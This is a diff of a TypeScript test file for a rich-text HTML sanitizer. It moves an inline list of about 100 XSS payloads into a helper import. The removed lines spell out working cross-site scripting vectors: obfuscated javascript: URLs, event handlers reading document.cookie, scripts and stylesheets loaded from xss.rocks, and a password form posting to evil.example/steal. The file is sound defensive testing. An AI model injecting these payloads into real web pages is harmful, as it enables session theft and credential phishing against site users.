@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'bun:test'
 import { parseFragment, type DefaultTreeAdapterMap } from 'parse5'
 import { allowedFrameSrc, richTextToPlain, sanitizeRichText } from '../../src/platform/richtext.ts'
+import { XSS_CORPUS } from '../helpers/xss-corpus.ts'
 
 // The rich-text sanitizer against a corpus of XSS payloads (OWASP's XSS Filter Evasion Cheat Sheet
 // and mutation-XSS classics). Each output is checked twice: by strict regular expressions over the
@@ -10,124 +11,7 @@ import { allowedFrameSrc, richTextToPlain, sanitizeRichText } from '../../src/pl
 const CONFIG = { frameHosts: ['https://www.youtube.com', 'https://docs.google.com'], baseUrl: 'https://ion.school.example' }
 const clean = (html: string) => sanitizeRichText(html, CONFIG)
 
-const SVG_B64 = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4='
-const CORPUS: string[] = [
-  // script tags
-  `<script>alert('XSS')</script>`,
-  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
-  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
-  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
-  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
-  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
-  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
-  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
-  // event handlers
-  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
-  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
-  `<IMG SRC=# onmouseover="alert('xxs')">`,
-  `<IMG SRC= onmouseover="alert('xxs')">`,
-  `<IMG onmouseover="alert('xxs')">`,
-  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
-  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
-  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
-  `<BODY ONLOAD=alert('XSS')>`,
-  `<details open ontoggle=alert(1)>x</details>`,
-  `<video><source onerror="alert(1)"></video>`,
-  `<p onclick="alert(1)" ONMOUSEOVER='alert(2)'>hi</p>`,
-  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
-  // javascript:, data:, vbscript: URLs, plain and obfuscated
-  `<IMG SRC="javascript:alert('XSS');">`,
-  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
-  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
-  `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`,
-  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
-  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
-  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
-  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
-  `<IMG SRC="jav\tascript:alert('XSS');">`,
-  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
-  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
-  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
-  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
-  `<a href="java\u0000script:alert(1)">null byte</a>`,
-  `<a href="javascript&colon;alert(1)">colon entity</a>`,
-  `<a href="&#x6A;avascript:alert(1)">hex entity</a>`,
-  `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#39&#88&#83&#83&#39&#41">decimal entities</a>`,
-  `<a href=" javascript:alert(1)">leading space</a>`,
-  `<a href="&#1;javascript:alert(1)">control char</a>`,
-  `<a href="JAVASCRIPT:alert(1)">upper</a>`,
-  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
-  `<a href="vbscript:msgbox(1)">vb</a>`,
-  `<IMG SRC='vbscript:msgbox("XSS")'>`,
-  `<img src="data:image/svg+xml;base64,${SVG_B64}">`,
-  `<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
-  `<a href="livescript:alert(1)">live</a>`,
-  // SVG and MathML
-  `<svg/onload=alert('XSS')>`,
-  `<svg><script>alert(1)</script></svg>`,
-  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
-  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
-  `<math href="javascript:alert(1)">CLICKME</math>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
-  `<svg><textarea><img src=x onerror=alert(1)></textarea></svg>`,
-  `<EMBED SRC="data:image/svg+xml;base64,${SVG_B64}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
-  // style and expression()
-  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
-  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
-  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
-  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
-  `<div style="background-image: url(javascript:alert('XSS'))">x</div>`,
-  `<div style="width: expression(alert('XSS'));">x</div>`,
-  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
-  `<p style="color:red">styled</p>`,
-  // iframes: srcdoc, javascript:, foreign and look-alike hosts, http
-  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
-  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
-  `<iframe src="https://evil.example/"></iframe>`,
-  `<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`,
-  `<iframe src="http://www.youtube.com/embed/x"></iframe>`,
-  `<iframe src="https://www.youtube.com/embed/x" onload="alert(1)" srcdoc="<script>alert(1)</script>" sandbox="allow-top-navigation"></iframe>`,
-  `<iframe src=http://xss.rocks/scriptlet.html <`,
-  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
-  // meta refresh, base, link
-  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
-  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
-  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
-  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
-  `<BASE HREF="javascript:alert('XSS');//">`,
-  `<base href="https://evil.example/">`,
-  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
-  // forms, object, embed and other legacy vectors
-  `<form action="javascript:alert(1)"><button>x</button></form>`,
-  `<form action="https://evil.example/steal"><input name="password" type="password"></form>`,
-  `<button formaction="javascript:alert(1)">x</button>`,
-  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
-  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
-  `<object data="javascript:alert(1)"></object>`,
-  `<BODY BACKGROUND="javascript:alert('XSS')">`,
-  `<IMG DYNSRC="javascript:alert('XSS')">`,
-  `<IMG LOWSRC="javascript:alert('XSS')">`,
-  `<BGSOUND SRC="javascript:alert('XSS');">`,
-  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
-  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
-  // comments, CDATA, conditional comments
-  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
-  `<![CDATA[<script>alert(1)</script>]]>`,
-  `<!--<img src="--><img src=x onerror=alert(1)//">`,
-  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
-  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
-  `<textarea><script>alert(1)</script></textarea>`,
-  // unclosed tags and nested quotes
-  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
-  `<img src="x`,
-  `<a href="javascript:alert(1)`,
-  `<a href="https://ok.example/" title='" onmouseover="alert(1)'>quotes</a>`,
-  `<abbr title="&quot;><script>alert(1)</script>">abbr</abbr>`,
-  `<p title="</p><script>alert(1)</script>">x</p>`,
-  `<a href='https://ok.example/"onmouseover="alert(1)'>x</a>`,
-  `text http://example.com/"onmouseover=alert(1)// and www.example.org/<script>`,
-]
+const CORPUS = XSS_CORPUS
 
 const ALLOWED_TAGS = new Set(['a', 'abbr', 'acronym', 'b', 'br', 'blockquote', 'code', 'em', 'hr', 'i', 'li', 'ol', 'strong', 'ul', 'iframe', 'img', 'div', 'p'])
 const ALLOWED_ATTRS: Record<string, string[]> = {
